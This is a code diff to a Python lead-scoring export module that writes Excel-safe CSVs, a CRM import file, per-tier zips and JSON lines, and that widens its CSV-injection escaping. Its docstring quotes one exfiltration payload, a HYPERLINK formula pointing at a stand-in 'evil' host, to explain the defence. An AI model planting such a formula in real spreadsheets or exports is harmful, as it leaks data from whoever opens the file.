@@ -1,13 +1,20 @@
-"""Scored leads out: Excel-safe CSV, a CRM import file, one file per tier, JSON lines.
+"""Scored leads out: Excel-safe CSV, a CRM import file, one file per tier, JSON lines, the call list.
+
+Every output shows the user's cells as the export wrote them ("2018-05-07", "1.0", "007", a blank
+as a blank; see :func:`as_written`): only formula cells are changed, in the files for Excel.
 
 Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a lead
 whose "notes" say ``=HYPERLINK("http://evil/?"&A1)`` could leak the sheet when a marketer opens
-the call list (CSV injection, OWASP). :func:`excel_safe` puts a single quote in front of such
-cells, so they show as text, and leaves alone what is plainly data: numbers ("-12.5") and phone
-numbers ("+61 98 361 5373"), which a CRM import must receive unchanged.
+the call list (CSV injection, OWASP). The look-alikes a spreadsheet may read the same way count
+too: the fullwidth forms (＝ ＋ － ＠), the small forms (﹦ ﹢ ﹣ ﹫) and a cell starting with a tab or
+a carriage return. :func:`excel_safe` puts a single quote in front of such cells, so they show as
+text, and leaves alone what is plainly data: numbers ("-12.5") and phone numbers ("+61 98 361
+5373") written with the ASCII signs, which a CRM import must receive unchanged.
 
 The "for CRM import" file is the opposite trade: UTF-8, no escaping at all, the columns a CRM
-maps (identifier first, score, tier, next action, top reason). It is not for opening in Excel.
+maps (the lead's key first: its identifier, or its ``row`` in the file when it has none; then
+score, tier, next action, top reason), in the file's order unless sorting is asked for. It is not
+for opening in Excel.
 """
 
 from __future__ import annotations
@@ -23,9 +30,12 @@ from collections.abc import Iterator
 import numpy as np
 import pandas as pd
 
+from leadscore.io.as_written import cells_as_written
 from leadscore.model.tiers import TIERS
 
 __all__ = [
+    "ROW_COLUMN",
+    "as_written",
     "excel_safe",
     "is_formula",
     "scored_csv",
@@ -46,11 +56,14 @@ TIER_FILES = {tier: f"{tier.lower()}.csv" for tier in TIERS}
 # Files opened in Excel get a byte-order mark so Excel reads accents right.
 TIER_FILE_ENCODING = "utf-8-sig"
 SCORE_COLUMNS = ("lead_score", "conversion_probability", "tier", "next_action", "reason_1", "reason_2", "reason_3")
+# The lead's row in the file (1 = the first lead under the header), the key of a file without IDs.
+ROW_COLUMN = "row"
 
-# What a spreadsheet reads as the start of a formula: = + - @ (and their fullwidth forms, which
-# some spreadsheet programs fold to ASCII), after any leading spaces or control characters; a
-# cell that *starts* with a tab, a carriage return or a line feed is treated the same way.
-_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
+# What a spreadsheet reads as the start of a formula: = + - @ (and their fullwidth and small
+# forms, which some spreadsheet programs fold to ASCII), after any leading spaces or control
+# characters; a cell that *starts* with a tab, a carriage return or a line feed is treated the
+# same way. Only the ASCII + and - may start a plain number or a phone number.
+_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
 _LEADING = re.compile(r"^[\s\x00-\x1f\u00a0\u3000]*")
 _PLAIN_NUMBER = re.compile(r"^[+-]?([0-9][0-9,]*\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?%?$")
 # A phone number: one leading + or -, then digits grouped by spaces, dots, dashes, slashes or
@@ -173,46 +186,99 @@ def _booleans_as_written(frame: pd.DataFrame) -> pd.DataFrame:
     return frame
 
 
+def as_written(scored: pd.DataFrame) -> pd.DataFrame:
+    """The scored leads with the user's cells as the export wrote them, for an output.
+
+    Leads read by :func:`leadscore.io.read.read_leads` get their cells back as text
+    (:func:`leadscore.io.as_written.cells_as_written`: "2018-05-07", "1.0", "007", a blank cell
+    as ""); the score columns are unchanged. Values that are not text any more (a table built in
+    code, a run restored from a project) are written as a spreadsheet shows them: a date without
+    a time as "2018-05-07", with one as "2018-05-07 09:30:00".
+
+    Example
+    -------
+    >>> from leadscore.io.read import read_leads
+    >>> leads = read_leads(b"id,signed_up,deal\\n007,2018-05-07,1.0\\n")
+    >>> as_written(leads.assign(lead_score=[80])).to_dict("list")
+    {'id': ['007'], 'signed_up': ['2018-05-07'], 'deal': ['1.0'], 'lead_score': [80]}
+    """
+    shown = cells_as_written(scored)
+    dates = [p for p in range(shown.shape[1]) if pd.api.types.is_datetime64_any_dtype(shown.iloc[:, p].dtype)]
+    if not dates:
+        return shown
+    shown = shown.copy() if shown is scored else shown
+    for position in dates:
+        shown.isetitem(position, _date_text(shown.iloc[:, position]))
+    return shown
+
+
+def _date_text(dates: pd.Series) -> pd.Series:
+    """Dates as text: "2018-05-07" when no value has a time of day, else "2018-05-07 09:30:00"; blank as ""."""
+    if isinstance(dates.dtype, pd.DatetimeTZDtype):
+        dates = dates.dt.tz_convert("UTC").dt.tz_localize(None)
+    known = dates.dropna()
+    with_time = bool((known != known.dt.normalize()).any())
+    text = dates.dt.strftime("%Y-%m-%d %H:%M:%S" if with_time else "%Y-%m-%d")
+    return text.astype(object).where(dates.notna(), "")
+
+
 def scored_csv(scored: pd.DataFrame) -> bytes:
-    """The scored leads as an Excel-safe UTF-8 CSV (with a byte-order mark so Excel reads accents)."""
+    """The scored leads as an Excel-safe UTF-8 CSV (with a byte-order mark so Excel reads accents),
+    the user's cells as written (:func:`as_written`)."""
     buffer = io.BytesIO()
     buffer.write("".encode(TIER_FILE_ENCODING))
-    write_csv(excel_safe(scored), buffer, header=True)
+    write_csv(excel_safe(as_written(scored)), buffer, header=True)
     return buffer.getvalue()
 
 
 def call_list(scored: pd.DataFrame, identifiers=()) -> pd.DataFrame:
     """The call list as people read it: who the lead is, score, tier and the reasons in one
-    "why" text (best first). The next action is the tier's, so it is said once per tier."""
-    who = [c for c in identifiers if c in scored.columns and c not in SCORE_COLUMNS][:2]
-    reasons = [c for c in ("reason_1", "reason_2", "reason_3") if c in scored.columns]
-    table = ranked(scored)[[*who, "lead_score", "tier"]].copy()
-    parts = ranked(scored)[reasons].fillna("").astype(str)
+    "why" text (best first). The next action is the tier's, so it is said once per tier.
+
+    Who the lead is: its ``row`` in the file first when the scored leads carry one (a file without
+    an ID column), then up to two ``identifiers``, their cells as written (a blank is "").
+    """
+    ordered = as_written(ranked(scored))
+    key = [ROW_COLUMN] if ROW_COLUMN in ordered.columns and ROW_COLUMN not in identifiers else []
+    who = [c for c in identifiers if c in ordered.columns and c not in SCORE_COLUMNS][:2]
+    reasons = [c for c in ("reason_1", "reason_2", "reason_3") if c in ordered.columns]
+    table = ordered[[*key, *who, "lead_score", "tier"]].copy()
+    for column in who:
+        if not pd.api.types.is_numeric_dtype(table[column].dtype):
+            table[column] = table[column].astype(object).where(table[column].notna(), "")
+    parts = ordered[reasons].fillna("").astype(str)
     table["why"] = parts.apply(lambda row: " · ".join(text for text in row if text), axis=1) if reasons else ""
     return table
 
 
 def crm_columns(scored: pd.DataFrame, identifiers=()) -> list[str]:
-    """The columns of the CRM import file: who the lead is, then score, tier, action, top reason."""
+    """The columns of the CRM import file: the lead's key (its ``row`` in the file, when the leads
+    carry one, then the ``identifiers``), then score, tier, action, top reason."""
+    key = [ROW_COLUMN] if ROW_COLUMN in scored.columns and ROW_COLUMN not in identifiers else []
     who = [c for c in identifiers if c in scored.columns and c not in SCORE_COLUMNS]
     wanted = ["lead_score", "conversion_probability", "tier", "next_action", "reason_1"]
-    return who + [c for c in wanted if c in scored.columns]
+    return key + who + [c for c in wanted if c in scored.columns]
 
 
-def crm_csv(scored: pd.DataFrame, identifiers=()) -> bytes:
+def crm_csv(scored: pd.DataFrame, identifiers=(), sort: bool = False) -> bytes:
     """The scored leads for a CRM import: UTF-8 without a byte-order mark and without formula
-    escaping (a CRM stores what it is given; an apostrophe would end up in its records), best
-    first. Not for opening in a spreadsheet: use :func:`scored_csv` for that.
+    escaping (a CRM stores what it is given; an apostrophe would end up in its records), cells as
+    written. Not for opening in a spreadsheet: use :func:`scored_csv` for that.
 
     Parameters
     ----------
     scored : DataFrame
         From scoring.
     identifiers : sequence of str
-        The columns that say who a lead is (ID, email, name), first in the file.
+        The columns that say who a lead is (ID, email, name), first in the file (after ``row``,
+        the lead's row in the file, when the leads have no ID column and carry it).
+    sort : bool
+        Best leads first. By default the leads are in the file's order (the order of the index,
+        which is the file's for leads read from a file), so the file joins back to the export.
     """
+    ordered = ranked(scored) if sort else scored.sort_index(kind="stable")
     buffer = io.BytesIO()
-    write_csv(ranked(scored)[crm_columns(scored, identifiers)], buffer, header=True)
+    write_csv(as_written(ordered)[crm_columns(scored, identifiers)], buffer, header=True)
     return buffer.getvalue()
 
 
@@ -222,10 +288,10 @@ def tier_frames(scored: pd.DataFrame) -> dict[str, pd.DataFrame]:
 
 
 def tier_zip(scored: pd.DataFrame) -> bytes:
-    """A zip of hot.csv, warm.csv, cool.csv and cold.csv (Excel-safe), best leads first."""
+    """A zip of hot.csv, warm.csv, cool.csv and cold.csv (Excel-safe, cells as written), best leads first."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
-        for tier, frame in tier_frames(ranked(scored)).items():
+        for tier, frame in tier_frames(as_written(ranked(scored))).items():
             archive.writestr(TIER_FILES[tier], scored_csv(frame))
     return buffer.getvalue()
 
@@ -254,5 +320,6 @@ def records(scored: pd.DataFrame) -> Iterator[dict]:
 
 
 def jsonl(scored: pd.DataFrame) -> str:
-    """The rows as JSON lines, values kept as they are (JSON is not opened by spreadsheets)."""
-    return "".join(json.dumps(record, ensure_ascii=False, default=str) + "\n" for record in records(scored))
+    """The rows as JSON lines, the user's cells as written (:func:`as_written`) and not escaped
+    (JSON is not opened by spreadsheets)."""
+    return "".join(json.dumps(record, ensure_ascii=False, default=str) + "\n" for record in records(as_written(scored)))
